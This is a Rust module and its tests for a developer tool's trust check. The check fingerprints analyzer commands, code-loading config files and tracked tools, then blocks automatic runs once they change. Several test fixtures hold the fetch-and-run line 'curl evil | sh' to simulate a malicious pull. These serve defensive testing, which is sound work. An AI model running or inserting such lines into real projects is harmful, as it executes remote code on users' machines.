//! Trust, after direnv: work nobody asked for in that moment (hook-,
//! watch-, cron- and idle-triggered runs) happens only in a worktree the
//! user trusted, because almost every analyzer can run repository code
//! (test runners run it; eslint and pylint load config and plugins from the
//! repository). Explicit commands (`bgtask run`, `bgtask submit`) need none.
//!
//! What is trusted is, per task, the *executable parts* of what it would
//! run: each analyzer's command, alternatives, arguments and environment;
//! a command that is a file in the repository (`./bin/check.sh`), by
//! content; the tool config files that make a tool load or run code
//! (`eslint.config.js`, `conftest.py`, `.pylintrc`, `pyproject.toml`,
//! `mvnw`, `gradle-wrapper.properties`, `.cargo/config.toml`, …); and for
//! `npm run test`, the `test` scripts of `package.json`. A change to any of
//! them (a `git pull`, say) blocks that task alone until `bgtask trust`;
//! `bgtask trust --diff` shows the change.
//!
//! Records live outside the repository, in `$XDG_DATA_HOME/bgtask/trust/`
//! (`BGTASK_DATA_DIR` overrides), one file per worktree.
//! `CI=true` (or a daemon started with `--trust`) skips the check.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::analyze::{Engine, ExternalSpec};
use crate::config::Config;
use crate::config::raw::Lookup;
use crate::repofile::RepoFileError;

/// Files that make a tool run code from the repository, by the name the
/// analyzer's command goes by.
const CODE_LOADING: &[(&str, &[&str])] = &[
    (
        "eslint",
        &[
            "eslint.config.js",
            "eslint.config.mjs",
            "eslint.config.cjs",
            "eslint.config.ts",
            "eslint.config.mts",
            "eslint.config.cts",
        ],
    ),
    (
        "pylint",
        &[
            ".pylintrc",
            ".pylintrc.toml",
            "pylintrc",
            "pyproject.toml",
            "setup.cfg",
            "tox.ini",
        ],
    ),
    (
        "pytest",
        &[
            "conftest.py",
            "pytest.ini",
            ".pytest.ini",
            "pyproject.toml",
            "setup.cfg",
            "tox.ini",
        ],
    ),
    (
        "cargo",
        &[
            ".cargo/config.toml",
            ".cargo/config",
            "rust-toolchain.toml",
            "rust-toolchain",
        ],
    ),
    (
        "./mvnw",
        &[
            "mvnw",
            ".mvn/wrapper/maven-wrapper.properties",
            ".mvn/maven.config",
        ],
    ),
    ("mvn", &[".mvn/maven.config", ".mvn/extensions.xml"]),
    (
        "./gradlew",
        &["gradlew", "gradle/wrapper/gradle-wrapper.properties"],
    ),
    ("python", &["conftest.py", "setup.cfg", "pyproject.toml"]),
    // `node-options` and `script-shell` make every script npm runs load
    // what they name.
    ("npm", &[".npmrc"]),
];

/// The executable parts of each task, as readable lines.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Fingerprint {
    pub tasks: BTreeMap<String, Vec<String>>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Record {
    pub root: PathBuf,
    pub trusted_at_ms: i64,
    pub tasks: BTreeMap<String, Vec<String>>,
}

/// Whether a task may run automatically.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case", tag = "state")]
pub enum TaskTrust {
    Trusted,
    /// The worktree (or this task) was never trusted.
    Untrusted,
    /// Trusted once; these lines changed since (`-` old, `+` new).
    Changed {
        diff: Vec<String>,
    },
}

fn short_hash(bytes: &[u8]) -> String {
    blake3::hash(bytes).to_hex()[..16].to_owned()
}

/// A file the repository holds, by content: `file REL HASH`. Read with
/// [`crate::repofile`]: a link out of the worktree is named by its target,
/// a FIFO or device by what it is, never read. `None` when there is none.
fn file_line(root: &Path, rel: &str) -> Option<String> {
    let path = root.join(rel);
    let meta = path.symlink_metadata().ok()?;
    let what = match crate::repofile::hash(Some(root), &path) {
        Ok(Some(hash)) => hash.to_hex()[..16].to_owned(),
        Ok(None) => return None,
        Err(RepoFileError::OutsideWorktree { target, .. }) => {
            return Some(format!(
                "file {rel} -> {} (out of the worktree)",
                target.display()
            ));
        }
        Err(RepoFileError::NotRegular { .. }) if path.is_dir() => "(a directory)".to_owned(),
        Err(RepoFileError::NotRegular { .. }) => "(not a regular file)".to_owned(),
        Err(e) => format!("(unreadable: {e})"),
    };
    let link = if meta.file_type().is_symlink() {
        std::fs::read_link(&path)
            .map(|t| format!(" (link to {})", t.display()))
            .unwrap_or_default()
    } else {
        String::new()
    };
    Some(format!("file {rel} {what}{link}"))
}

/// The `test`-related scripts of `package.json`, which `npm run test` runs.
fn npm_scripts(root: &Path) -> Option<String> {
    let text =
        match crate::repofile::read_to_string(Some(root), &root.join("package.json"), MANIFEST_CAP)
        {
            Ok(text) => text?,
            Err(e) => return Some(format!("package.json (unreadable: {e})")),
        };
    let json: serde_json::Value = serde_json::from_str(&text).ok()?;
    let scripts = json.get("scripts")?.as_object()?;
    let picked: BTreeMap<&str, &serde_json::Value> = scripts
        .iter()
        .filter(|(k, _)| matches!(k.as_str(), "pretest" | "test" | "posttest"))
        .map(|(k, v)| (k.as_str(), v))
        .collect();
    Some(format!(
        "package.json scripts {}",
        serde_json::to_string(&picked).ok()?
    ))
}

/// `package.json` is read only under this size.
const MANIFEST_CAP: u64 = 8 << 20;

/// What git tracks under the project's environment directories (`.venv`,
/// `venv`, `node_modules`): a tool found there is repository code when git
/// tracks it, and so is anything else git tracks there (a module the real
/// tool imports). An environment the user made and git ignores holds
/// nothing tracked and costs nothing.
///
/// Asking git costs a process, so the answer is kept until git's index
/// changes (a daemon asks on every trigger).
#[derive(Debug)]
pub struct Tracked {
    key: Option<(Option<IndexStamp>, Vec<String>)>,
    answer: Result<Vec<String>, String>,
}

impl Default for Tracked {
    fn default() -> Self {
        Tracked {
            key: None,
            answer: Ok(Vec::new()),
        }
    }
}

/// The index file's identity: it is replaced whenever what git tracks
/// changes.
type IndexStamp = (u64, i64, i64, u64);

fn index_stamp(root: &Path) -> Option<IndexStamp> {
    use std::os::unix::fs::MetadataExt;
    let dirs = crate::hooks::gitdir::GitDirs::find(root)?;
    let m = std::fs::metadata(dirs.git_dir.join("index")).ok()?;
    Some((m.ino(), m.mtime(), m.mtime_nsec(), m.size()))
}

impl Tracked {
    /// The tracked paths under `dirs` (relative to `root`), or why git
    /// could not say.
    fn under(&mut self, root: &Path, pathspecs: Vec<String>) -> &Result<Vec<String>, String> {
        let key = (index_stamp(root), pathspecs);
        if self.key.as_ref() != Some(&key) {
            self.answer = if key.1.is_empty() {
                Ok(Vec::new())
            } else {
                let mut args = vec!["ls-files", "-z", "--cached", "--"];
                args.extend(key.1.iter().map(String::as_str));
                crate::engine::git(root, &args)
                    .map(|out| {
                        out.split(|b| *b == 0)
                            .filter(|p| !p.is_empty())
                            .map(|p| String::from_utf8_lossy(p).into_owned())
                            .collect()
                    })
                    .map_err(|e| e.to_string())
            };
            self.key = Some(key);
        }
        &self.answer
    }
}

/// What git is asked about for an environment directory: itself, and where
/// it leads when it is a link to elsewhere in the worktree.
fn env_pathspecs(root: &Path, dir: &str) -> Vec<String> {
    let mut specs = vec![dir.to_owned()];
    let resolved = root
        .join(dir)
        .canonicalize()
        .ok()
        .zip(root.canonicalize().ok());
    if let Some((target, root)) = resolved
        && let Ok(rel) = target.strip_prefix(&root)
        && rel != Path::new(dir)
        && !rel.as_os_str().is_empty()
    {
        specs.push(rel.to_string_lossy().into_owned());
    }
    specs
}

/// What each enabled task would run, now.
pub fn fingerprint(config: &Config, root: &Path) -> Fingerprint {
    fingerprint_with(config, root, &mut Tracked::default())
}

/// [`fingerprint`], asking git about tracked environments through `tracked`.
pub fn fingerprint_with(config: &Config, root: &Path, tracked: &mut Tracked) -> Fingerprint {
    let git = root.join(".git").symlink_metadata().is_ok();
    let envs: BTreeMap<&'static str, Vec<String>> = [Lookup::Venv, Lookup::NodeModules]
        .into_iter()
        .flat_map(crate::tools::project_dirs)
        .map(|(dir, _)| *dir)
        .filter(|dir| git && root.join(dir).symlink_metadata().is_ok())
        .map(|dir| (dir, env_pathspecs(root, dir)))
        .collect();
    // Per analyzer, where in the worktree its tool may come from.
    let mut places: BTreeMap<&str, Vec<String>> = BTreeMap::new();
    for (name, def) in &config.analyzers {
        let Engine::External(spec) = &def.engine else {
            continue;
        };
        let mut specs: Vec<String> = spec
            .lookup
            .iter()
            .flat_map(|l| crate::tools::project_dirs(*l))
            .filter_map(|(dir, _)| envs.get(dir))
            .flatten()
            .cloned()
            .collect();
        if git {
            specs.extend(path_tool_inside(spec, root));
        }
        if !specs.is_empty() {
            places.insert(name, specs);
        }
    }
    let mut pathspecs: Vec<String> = places.values().flatten().cloned().collect();
    pathspecs.sort();
    pathspecs.dedup();
    let in_worktree = tracked.under(root, pathspecs);
    let mut tasks = BTreeMap::new();
    for task in config.tasks.values() {
        let mut lines = Vec::new();
        for name in &task.analyzers {
            let Some(def) = config.analyzers.get(name) else {
                continue;
            };
            let Engine::External(spec) = &def.engine else {
                continue;
            };
            lines.extend(spec_lines(name, spec, root));
            let Some(specs) = places.get(name.as_str()) else {
                continue;
            };
            match in_worktree {
                Ok(paths) => {
                    let under = |p: &&String| {
                        specs.iter().any(|d| {
                            p == &d
                                || p.strip_prefix(d.as_str())
                                    .is_some_and(|r| r.starts_with('/'))
                        })
                    };
                    lines.extend(
                        paths
                            .iter()
                            .filter(under)
                            .filter_map(|p| file_line(root, p)),
                    );
                }
                Err(e) => lines.push(format!(
                    "analyzer {name}: what git tracks in {} is unknown ({e})",
                    specs.join(", ")
                )),
            }
        }
        lines.sort();
        lines.dedup();
        tasks.insert(task.name.clone(), lines);
    }
    Fingerprint { tasks }
}

/// The tool a `PATH` lookup finds, relative to the worktree, when a `PATH`
/// entry points into it (`$PWD/bin`, as direnv setups do).
fn path_tool_inside(spec: &ExternalSpec, root: &Path) -> Option<String> {
    let (found, origin) = crate::tools::find(spec, root)?;
    if origin != crate::tools::Origin::Path {
        return None;
    }
    // The entry itself (a link is judged where it stands), in real terms.
    let found = found
        .parent()?
        .canonicalize()
        .ok()?
        .join(found.file_name()?);
    let rel = found.strip_prefix(root.canonicalize().ok()?).ok()?;
    Some(rel.to_string_lossy().into_owned())
}

/// An analyzer's own executable parts: command, arguments, environment,
/// a command file in the repository and the config files that make its
/// tool load code.
fn spec_lines(name: &str, spec: &ExternalSpec, root: &Path) -> Vec<String> {
    let mut lines = vec![format!(
        "analyzer {name}: command {} {}",
        serde_json::to_string(&spec.command).unwrap_or_default(),
        serde_json::to_string(&spec.args).unwrap_or_default(),
    )];
    if !spec.alternatives.is_empty() {
        lines.push(format!(
            "analyzer {name}: alternatives {}",
            serde_json::to_string(&spec.alternatives).unwrap_or_default()
        ));
    }
    if !spec.env.is_empty() {
        lines.push(format!(
            "analyzer {name}: env {}",
            serde_json::to_string(&spec.env).unwrap_or_default()
        ));
    }
    for cmd in std::iter::once(&spec.command).chain(&spec.alternatives) {
        if cmd.contains('/') && !Path::new(cmd).is_absolute() {
            lines.extend(file_line(root, cmd.trim_start_matches("./")));
        }
        let files = CODE_LOADING
            .iter()
            .filter(|(c, _)| c == cmd)
            .flat_map(|(_, files)| files.iter());
        for f in files {
            lines.extend(file_line(root, f));
        }
    }
    if spec.command == "npm" && spec.args.iter().any(|a| a == "test") {
        lines.extend(npm_scripts(root));
    }
    lines
}

/// `BGTASK_DATA_DIR`, else `$XDG_DATA_HOME/bgtask`, else `~/.local/share/bgtask`.
pub fn data_dir() -> PathBuf {
    if let Some(d) = std::env::var_os("BGTASK_DATA_DIR").filter(|d| !d.is_empty()) {
        return PathBuf::from(d);
    }
    if let Some(d) = std::env::var_os("XDG_DATA_HOME").filter(|d| !d.is_empty()) {
        return PathBuf::from(d).join("bgtask");
    }
    let home = std::env::var_os("HOME").map_or_else(std::env::temp_dir, PathBuf::from);
    home.join(".local").join("share").join("bgtask")
}

fn record_path(root: &Path) -> PathBuf {
    let canonical = root.canonicalize().unwrap_or_else(|_| root.to_owned());
    let key = short_hash(canonical.as_os_str().as_encoded_bytes());
    data_dir().join("trust").join(format!("{key}.json"))
}

/// Whether the worktree was ever trusted (a file's existence: cheap
/// enough for the hook's hot path).
pub fn has_record(root: &Path) -> bool {
    record_path(root).exists()
}

pub fn load(root: &Path) -> Option<Record> {
    let text = std::fs::read_to_string(record_path(root)).ok()?;
    serde_json::from_str(&text).ok()
}

/// Records `fp` as trusted for the worktree at `root`; returns the file.
pub fn save(root: &Path, fp: &Fingerprint) -> std::io::Result<PathBuf> {
    let path = record_path(root);
    let dir = path.parent().expect("a record has a directory");
    std::fs::create_dir_all(dir)?;
    let record = Record {
        root: root.canonicalize().unwrap_or_else(|_| root.to_owned()),
        trusted_at_ms: crate::store::now_ms(),
        tasks: fp.tasks.clone(),
    };
    let mut tmp = tempfile::NamedTempFile::new_in(dir)?;
    serde_json::to_writer_pretty(&mut tmp, &record).map_err(std::io::Error::other)?;
    tmp.persist(&path).map_err(|e| e.error)?;
    Ok(path)
}

/// Forgets the worktree's trust; whether there was any.
pub fn revoke(root: &Path) -> std::io::Result<bool> {
    match std::fs::remove_file(record_path(root)) {
        Ok(()) => Ok(true),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(false),
        Err(e) => Err(e),
    }
}

/// The check is skipped in CI (`CI=true`).
pub fn skipped_by_env() -> bool {
    std::env::var("CI").is_ok_and(|v| v == "true" || v == "1")
}

/// Each task's trust, comparing what it would run now with the record.
pub fn evaluate(fp: &Fingerprint, record: Option<&Record>) -> BTreeMap<String, TaskTrust> {
    fp.tasks
        .iter()
        .map(|(task, now)| {
            let state = match record.and_then(|r| r.tasks.get(task)) {
                None => TaskTrust::Untrusted,
                Some(then) if then == now => TaskTrust::Trusted,
                Some(then) => TaskTrust::Changed {
                    diff: diff(then, now),
                },
            };
            (task.clone(), state)
        })
        .collect()
}

fn diff(then: &[String], now: &[String]) -> Vec<String> {
    let mut out: Vec<String> = then
        .iter()
        .filter(|l| !now.contains(l))
        .map(|l| format!("- {l}"))
        .collect();
    out.extend(
        now.iter()
            .filter(|l| !then.contains(l))
            .map(|l| format!("+ {l}")),
    );
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config(root: &Path, text: &str) -> Config {
        crate::config::from_text(&root.join(crate::config::CONFIG_FILE), text).unwrap()
    }

    #[test]
    fn a_changed_executable_part_blocks_only_its_task() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::create_dir(root.join("bin")).unwrap();
        std::fs::write(root.join("bin/check.sh"), "#!/bin/sh\necho one\n").unwrap();
        std::fs::write(root.join("eslint.config.js"), "export default [];\n").unwrap();
        let text = r#"{
          "tasks": {
            "lint": {"analyzers": ["eslint"]},
            "mine": {"analyzers": ["check"]},
            "profile": {"analyzers": ["profile"]}
          },
          "analyzers": {"check": {"command": "./bin/check.sh", "mode": "project", "parser": "exit-code"}}
        }"#;
        let fp = fingerprint(&config(root, text), root);
        assert!(fp.tasks["profile"].is_empty(), "built-in code runs nothing");
        assert!(
            fp.tasks["mine"]
                .iter()
                .any(|l| l.starts_with("file bin/check.sh ")),
            "{:?}",
            fp.tasks["mine"]
        );
        assert!(
            fp.tasks["lint"]
                .iter()
                .any(|l| l.starts_with("file eslint.config.js "))
        );
        let record = Record {
            root: root.to_owned(),
            trusted_at_ms: 0,
            tasks: fp.tasks.clone(),
        };
        let all = evaluate(&fp, Some(&record));
        assert!(all.values().all(|t| *t == TaskTrust::Trusted));
        assert!(
            evaluate(&fp, None)
                .values()
                .all(|t| *t == TaskTrust::Untrusted)
        );

        std::fs::write(root.join("bin/check.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        let now = evaluate(&fingerprint(&config(root, text), root), Some(&record));
        assert_eq!(now["lint"], TaskTrust::Trusted);
        assert_eq!(now["profile"], TaskTrust::Trusted);
        let TaskTrust::Changed { diff } = &now["mine"] else {
            panic!("{now:?}")
        };
        assert_eq!(diff.len(), 2, "{diff:?}");
        assert!(diff[0].starts_with("- file bin/check.sh"));
        assert!(diff[1].starts_with("+ file bin/check.sh"));

        let changed_args = text.replace(
            r#""parser": "exit-code""#,
            r#""parser": "exit-code", "args": ["--all"]"#,
        );
        let now = evaluate(
            &fingerprint(&config(root, &changed_args), root),
            Some(&record),
        );
        assert!(matches!(now["mine"], TaskTrust::Changed { .. }));
        assert_eq!(now["lint"], TaskTrust::Trusted);
    }

    #[test]
    fn npm_test_trusts_the_test_scripts_not_the_whole_manifest() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        let text = r#"{"tasks": {"tests": {"analyzers": ["npm-test"]}}}"#;
        std::fs::write(
            root.join("package.json"),
            r#"{"version": "1.0.0", "scripts": {"test": "node t.js"}}"#,
        )
        .unwrap();
        let before = fingerprint(&config(root, text), root);
        std::fs::write(
            root.join("package.json"),
            r#"{"version": "1.0.1", "scripts": {"test": "node t.js", "build": "x"}}"#,
        )
        .unwrap();
        assert_eq!(fingerprint(&config(root, text), root), before);
        std::fs::write(
            root.join("package.json"),
            r#"{"scripts": {"test": "curl evil | sh"}}"#,
        )
        .unwrap();
        assert_ne!(fingerprint(&config(root, text), root), before);
    }

    fn git(root: &Path, args: &[&str]) {
        let out = std::process::Command::new("git")
            .arg("-C")
            .arg(root)
            .args(["-c", "user.name=t", "-c", "user.email=t@t"])
            .args(args)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {out:?}");
    }

    fn tool(root: &Path, rel: &str, body: &str) {
        use std::os::unix::fs::PermissionsExt;
        let p = root.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, format!("#!/bin/sh\n{body}\n")).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }

    /// A repository whose `.venv` and `node_modules` are ignored, as a
    /// user's own environments are.
    fn repo() -> tempfile::TempDir {
        let dir = tempfile::tempdir().unwrap();
        git(dir.path(), &["init", "-q"]);
        std::fs::write(
            dir.path().join(".gitignore"),
            ".venv/\nvenv/\nnode_modules/\n",
        )
        .unwrap();
        dir
    }

    const TASKS: &str = r#"{"tasks": {
        "security": {"analyzers": ["bandit"]},
        "lint": {"analyzers": ["eslint"]},
        "profile": {"analyzers": ["profile"]}
    }}"#;

    fn lines(root: &Path, task: &str, tracked: &mut Tracked) -> Vec<String> {
        fingerprint_with(&config(root, TASKS), root, tracked).tasks[task].clone()
    }

    #[test]
    fn a_tool_git_tracks_in_a_project_environment_is_trusted_by_content() {
        let dir = repo();
        let root = dir.path();
        let mut tracked = Tracked::default();
        // The user's own, ignored environment: nothing to trust, no noise.
        tool(root, ".venv/bin/bandit", "exec real-bandit \"$@\"");
        tool(root, "node_modules/.bin/eslint", "exec real-eslint \"$@\"");
        git(root, &["add", ".gitignore"]);
        git(root, &["commit", "-qm", "one"]);
        let clean = fingerprint_with(&config(root, TASKS), root, &mut tracked);
        assert!(
            clean
                .tasks
                .values()
                .flatten()
                .all(|l| !l.contains(".venv") && !l.contains("node_modules")),
            "{clean:?}"
        );
        assert_eq!(
            fingerprint(&config(root, TASKS), root),
            clean,
            "the same without a cache"
        );

        // As if pulled: a tracked tool shadows the user's.
        tool(
            root,
            ".venv/bin/bandit",
            "touch /tmp/marker; exec real-bandit \"$@\"",
        );
        git(root, &["add", "-f", ".venv/bin/bandit"]);
        git(root, &["commit", "-qm", "two"]);
        let now = fingerprint_with(&config(root, TASKS), root, &mut tracked);
        assert!(
            now.tasks["security"]
                .iter()
                .any(|l| l.starts_with("file .venv/bin/bandit ")),
            "{now:?}"
        );
        let record = Record {
            root: root.to_owned(),
            trusted_at_ms: 0,
            tasks: clean.tasks.clone(),
        };
        let states = evaluate(&now, Some(&record));
        let TaskTrust::Changed { diff } = &states["security"] else {
            panic!("{states:?}")
        };
        assert_eq!(diff.len(), 1, "{diff:?}");
        assert!(diff[0].starts_with("+ file .venv/bin/bandit "), "{diff:?}");
        assert_eq!(
            states["lint"],
            TaskTrust::Trusted,
            "eslint does not look in .venv"
        );
        assert_eq!(states["profile"], TaskTrust::Trusted);

        // A later change to the tracked tool, committed or not, is seen.
        let record = Record {
            root: root.to_owned(),
            trusted_at_ms: 0,
            tasks: now.tasks.clone(),
        };
        tool(root, ".venv/bin/bandit", "curl evil | sh");
        let states = evaluate(
            &fingerprint_with(&config(root, TASKS), root, &mut tracked),
            Some(&record),
        );
        assert!(
            matches!(states["security"], TaskTrust::Changed { .. }),
            "{states:?}"
        );

        // So is anything else tracked there, which the real tool would import.
        std::fs::create_dir_all(root.join(".venv/lib/site-packages/bandit")).unwrap();
        std::fs::write(
            root.join(".venv/lib/site-packages/bandit/__init__.py"),
            "import os\n",
        )
        .unwrap();
        git(root, &["add", "-f", ".venv/lib"]);
        assert!(
            lines(root, "security", &mut tracked)
                .iter()
                .any(|l| l.starts_with("file .venv/lib/site-packages/bandit/__init__.py ")),
        );
    }

    #[test]
    fn every_project_lookup_location_counts() {
        let dir = repo();
        let root = dir.path();
        let mut tracked = Tracked::default();
        tool(root, "venv/bin/bandit", "echo venv");
        tool(root, "node_modules/.bin/eslint", "echo node");
        git(root, &["add", "-f", "venv", "node_modules"]);
        assert!(
            lines(root, "security", &mut tracked)
                .iter()
                .any(|l| l.starts_with("file venv/bin/bandit "))
        );
        let lint = lines(root, "lint", &mut tracked);
        assert!(
            lint.iter()
                .any(|l| l.starts_with("file node_modules/.bin/eslint ")),
            "{lint:?}"
        );
        assert!(!lint.iter().any(|l| l.contains("venv/")), "{lint:?}");

        // Wrappers and relative commands are files of the project too.
        tool(root, "gradlew", "echo gradle");
        tool(root, "mvnw", "echo maven");
        let text = r#"{"tasks": {"g": {"analyzers": ["gradle"]}, "m": {"analyzers": ["maven"]}}}"#;
        let fp = fingerprint(&config(root, text), root);
        assert!(
            fp.tasks["g"].iter().any(|l| l.starts_with("file gradlew ")),
            "{fp:?}"
        );
        assert!(
            fp.tasks["m"].iter().any(|l| l.starts_with("file mvnw ")),
            "{fp:?}"
        );
    }

    #[test]
    fn a_linked_environment_is_followed_inside_the_worktree_and_named_outside() {
        let dir = repo();
        let root = dir.path();
        std::fs::write(root.join(".gitignore"), "").unwrap();
        tool(root, "tools/env/bin/bandit", "echo mine");
        std::os::unix::fs::symlink("tools/env", root.join(".venv")).unwrap();
        git(root, &["add", "-A"]);
        let mut tracked = Tracked::default();
        let security = lines(root, "security", &mut tracked);
        assert!(
            security
                .iter()
                .any(|l| l.starts_with("file tools/env/bin/bandit ")),
            "{security:?}"
        );
        assert!(
            security
                .iter()
                .any(|l| l.starts_with("file .venv (a directory) (link to tools/env)")),
            "{security:?}"
        );

        // Hostile tool config files are named, never read.
        std::os::unix::fs::symlink("/dev/zero", root.join("conftest.py")).unwrap();
        let text = r#"{"tasks": {"tests": {"analyzers": ["pytest"]}}}"#;
        let fp = fingerprint(&config(root, text), root);
        assert!(
            fp.tasks["tests"]
                .iter()
                .any(|l| l == "file conftest.py -> /dev/zero (out of the worktree)"),
            "{fp:?}"
        );
    }
}
